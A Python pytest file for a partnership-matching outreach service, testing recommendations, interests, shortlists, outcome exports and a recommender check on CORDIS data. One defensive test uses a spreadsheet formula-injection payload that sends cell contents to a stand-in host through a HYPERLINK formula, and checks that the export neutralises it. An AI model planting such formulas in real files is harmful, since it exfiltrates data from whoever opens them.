"""Reaching out through the service: partnerships to join, interests, shortlists, their outcomes as
feedback, and what a user's grants give; and the recommender's sanity on real CORDIS data."""

from __future__ import annotations

import csv
import io
import multiprocessing
import random
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import numpy as np
import pytest

from domain.accounts import Actor, Grant, Role, User
from domain.errors import ConflictError, InvalidInputError, NotFoundError
from domain.events import EventCreate, SlotSpec
from domain.models import PartnershipKind
from domain.outreach import Outcome, ShortlistStatus, ShortlistUpdate
from graph.embedded import EmbeddedStore
from matching.candidates import heuristic_scores
from pactmatch.event_service import EventService
from pactmatch.filters import join_filters
from pactmatch.home import Scoped, home
from pactmatch.outreach import OutreachService
from pactmatch.outreach_exports import read_outcomes
from pactmatch.service import PactmatchService
from tests.conftest import TEST_ACTOR, cordis_slice, member, org, partnership, requires_shared_data

T0 = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)


class Clock:
    """A clock the test moves: each reading is a minute after the last."""

    def __init__(self) -> None:
        self.now = T0

    def __call__(self) -> datetime:
        self.now += timedelta(minutes=1)
        return self.now


@pytest.fixture
def outreach(hashing_service: PactmatchService) -> OutreachService:
    """Welding and nursing partnerships around Stuttgart and Madrid, and organisations to join them."""
    hashing_service.store.import_batch(
        [
            org("weld-school", name="Welding school Esslingen", stakeholder_type="vet_provider",
                nuts_codes=("DE113",), description="Vocational training of welders and metal workers"),
            org("steel", name="Steel works", stakeholder_type="large_employer", nuts_codes=("DE111",),
                description="Steel structures and welding"),
            org("uni", name="University Stuttgart", stakeholder_type="higher_education", nuts_codes=("DE111",),
                description="Materials science and welding research"),
            org("hospital", name="Madrid hospital", stakeholder_type="large_employer", country="ES",
                nuts_codes=("ES300",), description="Nursing and care"),
            org("nurse-school", name="Nursing school", stakeholder_type="vet_provider", country="ES",
                nuts_codes=("ES300",), description="Training nurses"),
        ],
        [
            partnership("rsp-weld", name="Welding skills Stuttgart", kind="regional", scope_regions=("DE11",),
                        description="Skills for welding and metal work in the Stuttgart region"),
            partnership("rsp-care", name="Care skills Madrid", kind="regional", scope_regions=("ES30",),
                        description="Nursing and care skills"),
            partnership("old-project", name="Welding research project", description="Welding research"),
        ],
        [member("steel", "rsp-weld", "coordinator"), member("uni", "rsp-weld"), member("hospital", "rsp-care"),
         member("steel", "old-project"), member("weld-school", "old-project")],
    )  # fmt: skip
    hashing_service.refresh_embeddings()
    return OutreachService(hashing_service, clock=Clock())


def test_partnerships_to_join_are_ranked_explained_and_filtered(outreach: OutreachService) -> None:
    result = outreach.partnerships_to_join("weld-school")
    assert [i.partnership_id for i in result.items] == ["rsp-weld", "rsp-care"]  # not its own old-project
    assert result.total == 2 and result.model == "heuristic-join-v1"
    best = result.items[0]
    assert best.name == "Welding skills Stuttgart" and best.kind == PartnershipKind.REGIONAL
    reasons = {r.key: r for r in best.reasons.reasons}
    assert list(reasons) == ["collaboration", "topic", "region", "type"]
    assert reasons["collaboration"].label == "worked with its members before"
    assert "Steel works" in reasons["collaboration"].evidence  # met in old-project
    assert reasons["region"].evidence.startswith("inside DE11")
    assert reasons["type"].evidence == "the partnership has no VET provider yet"
    assert sum(r.value for r in best.reasons.reasons) == pytest.approx(best.score)
    spain = outreach.partnerships_to_join("weld-school", join_filters(None, None, None, ["es"]))
    assert [i.partnership_id for i in spain.items] == ["rsp-care"]
    second = outreach.partnerships_to_join("weld-school", top_k=1, offset=1)
    assert [i.partnership_id for i in second.items] == ["rsp-care"] and second.total == 2
    with pytest.raises(InvalidInputError):
        join_filters(None, None, ["XX99"], None)
    with pytest.raises(NotFoundError):
        outreach.partnerships_to_join("nobody")


def test_the_recommender_follows_the_store(outreach: OutreachService) -> None:
    first = outreach.join_recommender()
    assert outreach.join_recommender() is first  # fitted once per snapshot
    outreach.service.put_member("rsp-care", "weld-school", Role.MEMBER, actor=TEST_ACTOR)
    assert outreach.join_recommender() is not first
    assert [i.partnership_id for i in outreach.partnerships_to_join("weld-school").items] == ["rsp-weld"]


def test_interest_is_recorded_shown_to_coordinators_and_withdrawn(outreach: OutreachService) -> None:
    item, created = outreach.express_interest("weld-school", "rsp-weld", "We train welders", actor=TEST_ACTOR)
    assert created and item.name == "Welding skills Stuttgart" and item.interest.by == TEST_ACTOR.name
    again, created = outreach.express_interest(
        "weld-school", "rsp-weld", "We train welders", actor=TEST_ACTOR
    )
    assert not created and again.interest == item.interest  # the same message again: nothing changes
    reworded, _ = outreach.express_interest(
        "weld-school", "rsp-weld", "We train 200 welders", actor=TEST_ACTOR
    )
    assert reworded.interest.created_at == item.interest.created_at < reworded.interest.updated_at
    [inbound] = outreach.inbound_interests("rsp-weld")
    assert inbound.name == "Welding school Esslingen" and inbound.interest.message == "We train 200 welders"
    assert [i.interest.partnership_id for i in outreach.interests_of("weld-school")] == ["rsp-weld"]
    joinable = outreach.partnerships_to_join("weld-school").items
    assert [i.interest_expressed for i in joinable] == [True, False]
    page = outreach.candidates("rsp-weld", top_k=10)
    assert page.interested == {"weld-school"} and "weld-school" in [c.org_id for c in page.candidates.items]
    with pytest.raises(ConflictError, match="already a member"):
        outreach.express_interest("uni", "rsp-weld", actor=TEST_ACTOR)
    with pytest.raises(NotFoundError):
        outreach.express_interest("weld-school", "nope", actor=TEST_ACTOR)
    outreach.withdraw_interest("weld-school", "rsp-weld", actor=TEST_ACTOR)
    assert outreach.inbound_interests("rsp-weld") == []
    with pytest.raises(NotFoundError):
        outreach.withdraw_interest("weld-school", "rsp-weld", actor=TEST_ACTOR)
    actions = [
        e.action for e in outreach.service.audit.entries(0, 50).items if e.target.startswith("interest")
    ]
    assert actions == ["interest.withdraw", "interest.update", "interest.create"]  # newest first


def test_shortlist_keeps_every_change_and_adds_the_member(outreach: OutreachService) -> None:
    entry, created = outreach.put_shortlist_entry(
        "rsp-weld", "weld-school", ShortlistUpdate(), actor=TEST_ACTOR
    )
    assert (
        created
        and entry.entry.status == ShortlistStatus.SHORTLISTED
        and entry.entry.current.on == date(2026, 3, 2)
    )
    same, created = outreach.put_shortlist_entry(
        "rsp-weld", "weld-school", ShortlistUpdate(), actor=TEST_ACTOR
    )
    assert not created and len(same.entry.history) == 1  # repeating the current state is a no-op
    contacted = ShortlistUpdate(status=ShortlistStatus.CONTACTED, note="called Ms Weber", on=date(2026, 3, 5))
    entry, _ = outreach.put_shortlist_entry("rsp-weld", "weld-school", contacted, actor=TEST_ACTOR)
    assert [c.status for c in entry.entry.history] == [ShortlistStatus.SHORTLISTED, ShortlistStatus.CONTACTED]
    assert entry.name == "Welding school Esslingen" and not entry.member
    outreach.put_shortlist_entry("rsp-weld", "nurse-school", ShortlistUpdate(), actor=TEST_ACTOR)
    assert outreach.candidates("rsp-weld").shortlisted == {
        "weld-school": ShortlistStatus.CONTACTED, "nurse-school": ShortlistStatus.SHORTLISTED,
    }  # fmt: skip
    outreach.express_interest("weld-school", "rsp-weld", "We train welders", actor=TEST_ACTOR)
    assert [i.interest.org_id for i in outreach.inbound_interests("rsp-weld", pending=True)] == [
        "weld-school"
    ]
    membership, joined = outreach.add_shortlisted_as_member(
        "rsp-weld", "weld-school", since=date(2026, 4, 1), actor=TEST_ACTOR
    )
    assert membership.role == Role.MEMBER and membership.since == date(2026, 4, 1)
    assert outreach.inbound_interests("rsp-weld", pending=True) == []  # its request is met
    assert len(outreach.inbound_interests("rsp-weld")) == 1  # and kept (the API lists it)
    assert (
        joined.member
        and joined.entry.status == ShortlistStatus.JOINED
        and joined.entry.current.on == date(2026, 4, 1)
    )
    assert joined.entry.current.note == "called Ms Weber"
    assert "weld-school" in {m.org_id for m in outreach.service.members("rsp-weld")}
    with pytest.raises(NotFoundError, match="shortlist entry"):
        outreach.add_shortlisted_as_member("rsp-weld", "hospital", actor=TEST_ACTOR)
    outreach.remove_from_shortlist("rsp-weld", "nurse-school", actor=TEST_ACTOR)
    assert [i.entry.org_id for i in outreach.shortlist("rsp-weld")] == ["weld-school"]
    with pytest.raises(NotFoundError):
        outreach.remove_from_shortlist("rsp-weld", "nurse-school", actor=TEST_ACTOR)
    audit = [(e.action, e.changes) for e in outreach.service.audit.entries(0, 50).items]
    assert (
        "shortlist.update",
        {"status": ["contacted", "joined"], "on": ["2026-03-05", "2026-04-01"]},
    ) in audit
    assert "membership.create" in [action for action, _ in audit]  # through the ordinary membership write


def _note_in_another_process(store_path: str, worker: int, n: int, start: object) -> int:
    """One process of the service (an API worker, the CLI) recording ``n`` notes on one shortlist
    entry, each a change; returns how many returned."""
    store = EmbeddedStore(store_path)
    outreach = OutreachService(PactmatchService(store, encoder="hashing"))
    start.wait()  # type: ignore[attr-defined]  # a multiprocessing Barrier: all begin together
    for k in range(n):
        update = ShortlistUpdate(status=ShortlistStatus.CONTACTED, note=f"call {worker}-{k}")
        outreach.put_shortlist_entry("rsp-weld", "weld-school", update, actor=TEST_ACTOR)
    store.close()
    return n


def test_shortlist_changes_from_several_processes_all_land(outreach: OutreachService) -> None:
    """Two coordinators (in different API processes, or the CLI) recording a status at once: each
    change returned is in the entry's history (a process-local lock lost some)."""
    outreach.put_shortlist_entry("rsp-weld", "weld-school", ShortlistUpdate(), actor=TEST_ACTOR)
    store = outreach.service.store
    assert isinstance(store, EmbeddedStore)
    workers, each = 3, 10
    context = multiprocessing.get_context("spawn")
    start = context.Manager().Barrier(workers)
    with context.Pool(workers) as pool:
        returned = pool.starmap(
            _note_in_another_process, [(str(store.path), w, each, start) for w in range(workers)]
        )
    notes = [c.note for c in outreach.shortlist_entry("rsp-weld", "weld-school").history]
    assert sum(returned) == workers * each
    assert sorted(notes[1:]) == sorted(f"call {w}-{k}" for w in range(workers) for k in range(each))


def test_shortlist_csv_neutralises_formulas(outreach: OutreachService) -> None:
    note = ShortlistUpdate(note='=HYPERLINK("http://x/?"&A1,"Click")')
    outreach.put_shortlist_entry("rsp-weld", "weld-school", note, actor=TEST_ACTOR)
    outreach.service.put_organisation(
        org("weld-school", name="@SUM(A1)", stakeholder_type="vet_provider"), actor=TEST_ACTOR
    )
    rows = list(csv.DictReader(io.StringIO(outreach.shortlist_csv("rsp-weld"))))
    assert rows[0]["note"] == "'" + note.note and rows[0]["organisation"] == "'@SUM(A1)"
    assert rows[0]["status"] == "shortlisted" and rows[0]["history"] == "2026-03-02 shortlisted"


def test_outcomes_round_trip_through_the_exported_file(outreach: OutreachService, tmp_path: Path) -> None:
    for status, day in ((ShortlistStatus.SHORTLISTED, 1), (ShortlistStatus.DECLINED, 9)):
        update = ShortlistUpdate(status=status, on=date(2026, 3, day))
        outreach.put_shortlist_entry("rsp-care", "nurse-school", update, actor=TEST_ACTOR)
    outreach.put_shortlist_entry(
        "rsp-weld", "weld-school", ShortlistUpdate(on=date(2026, 3, 2)), actor=TEST_ACTOR
    )
    file = tmp_path / "outcomes.csv"
    file.write_text(outreach.outcomes_csv(), encoding="utf-8")
    assert file.read_text(encoding="utf-8").splitlines() == [
        "partnership_id,org_id,outcome,date",
        "rsp-care,nurse-school,shortlisted,2026-03-01",
        "rsp-care,nurse-school,declined,2026-03-09",
        "rsp-weld,weld-school,shortlisted,2026-03-02",
    ]
    assert read_outcomes(file) == outreach.outcomes()
    file.write_text("partnership_id,org_id,outcome,date\n'-p,'=o,joined,2026-01-01\np,o,won,2026-01-01\n")
    with pytest.raises(InvalidInputError, match="line 3: outcome"):
        read_outcomes(file)
    file.write_text("partnership_id,org_id,outcome,date\n'-p,'=o,joined,2026-01-01\n")
    assert read_outcomes(file) == [
        Outcome(partnership_id="-p", org_id="=o", status="joined", on=date(2026, 1, 1))
    ]  # type: ignore[arg-type]


def test_feedback_ranks_the_joined_as_before_they_joined(outreach: OutreachService) -> None:
    outreach.put_shortlist_entry("rsp-weld", "weld-school", ShortlistUpdate(), actor=TEST_ACTOR)
    outreach.add_shortlisted_as_member("rsp-weld", "weld-school", actor=TEST_ACTOR)
    outreach.put_shortlist_entry(
        "rsp-care", "steel", ShortlistUpdate(status=ShortlistStatus.DECLINED), actor=TEST_ACTOR
    )
    result = outreach.feedback()
    assert result.partnerships == 2 and result.outcomes == 2 and result.skipped == {}
    heuristic = result.rankers["heuristic-v1"]
    # Among the three non-members of rsp-weld once weld-school's membership is taken out, the
    # welding school (text, region, old-project with steel, a missing type) ranks first.
    assert heuristic[ShortlistStatus.JOINED].ranks == [1]
    assert heuristic[ShortlistStatus.DECLINED].count == 1
    assert {"random", "popularity", "heuristic-v1"} <= set(result.rankers)
    stale = Outcome(
        partnership_id="rsp-weld", org_id="uni", status=ShortlistStatus.INTERESTED, on=date(2026, 1, 1)
    )
    gone = Outcome(
        partnership_id="nope", org_id="uni", status=ShortlistStatus.INTERESTED, on=date(2026, 1, 1)
    )
    assert outreach.feedback([stale, gone]).skipped == {
        "a member without a joined outcome": 1, "partnership or organisation no longer in the store": 1,
    }  # fmt: skip


def test_home_names_what_the_grants_give(outreach: OutreachService) -> None:
    service = outreach.service
    EventService(service, "k").create_event(
        EventCreate(
            event_id="e1", name="Brokerage", date=date(2027, 1, 1), tables=2, slots=(SlotSpec(start="09:00"),)
        ),  # type: ignore[arg-type]
        actor=TEST_ACTOR,
    )
    user = User(
        name="ana", password_hash="x", created_at=T0, password_changed_at=T0,
        grants=(Grant(role=Role.COORDINATOR, scope="rsp-weld"), Grant(role=Role.COORDINATOR, scope="deleted"),
                Grant(role=Role.ORGANISER, scope="e1"), Grant(role=Role.MEMBER, scope="uni")),
    )  # fmt: skip
    mine = home(service, Actor.of(user, "page"))
    assert not mine.admin and mine.name == "ana"
    assert mine.partnerships == [Scoped("deleted", None), Scoped("rsp-weld", "Welding skills Stuttgart")]
    assert mine.events == [Scoped("e1", "Brokerage")]
    assert mine.organisations == [Scoped("uni", "University Stuttgart")]
    assert home(service, TEST_ACTOR).admin


@pytest.mark.shared_data
@requires_shared_data
def test_real_cordis_slice_finds_a_hidden_partnership(
    hashing_service: PactmatchService, tmp_path: Path
) -> None:
    """Hide one participation of 40 organisations of the projects starting January to September 2019:
    ranking every project for each of them puts the hidden one far above chance (lexical
    embeddings: the hashing encoder)."""
    projects, participants = cordis_slice(
        tmp_path, lambda row: row["start_date"].startswith("2019-0") and bool(row["title"])
    )
    hashing_service.import_cordis(projects, participants, actor=TEST_ACTOR)
    by_org: dict[str, list[str]] = {}
    for m in hashing_service.store.iter_memberships():
        by_org.setdefault(m.org_id, []).append(m.partnership_id)
    rng = random.Random(7)
    active = sorted(o for o, ps in by_org.items() if len(ps) >= 3)
    hidden = [(o, rng.choice(sorted(by_org[o]))) for o in rng.sample(active, 40)]
    for org_id, pid in hidden:
        hashing_service.delete_membership(org_id, pid, actor=TEST_ACTOR)
    outreach = OutreachService(hashing_service)
    recommender = outreach.join_recommender()
    n = hashing_service.counts().partnerships
    ranks = []
    for org_id, pid in hidden:
        scores = heuristic_scores(recommender.signals(org_id).values, recommender.weights)
        eligible = recommender.eligible(org_id)
        j = recommender.snapshot_.partnership_index[pid]
        ranks.append(1 + int(np.sum(eligible & (scores > scores[j]))))
    assert (
        outreach.partnerships_to_join(hidden[0][0], top_k=n).items[ranks[0] - 1].partnership_id
        == hidden[0][1]
    )
    # Chance would put the median rank near n / 2 and 0.25 of the 40 in the first ten; measured:
    # a median of 236 of 1,589 and 7 in the first ten (a six-month slice: little history to share).
    assert float(np.median(ranks)) <= n / 4, sorted(ranks)
    assert sum(r <= 10 for r in ranks) >= 4, sorted(ranks)
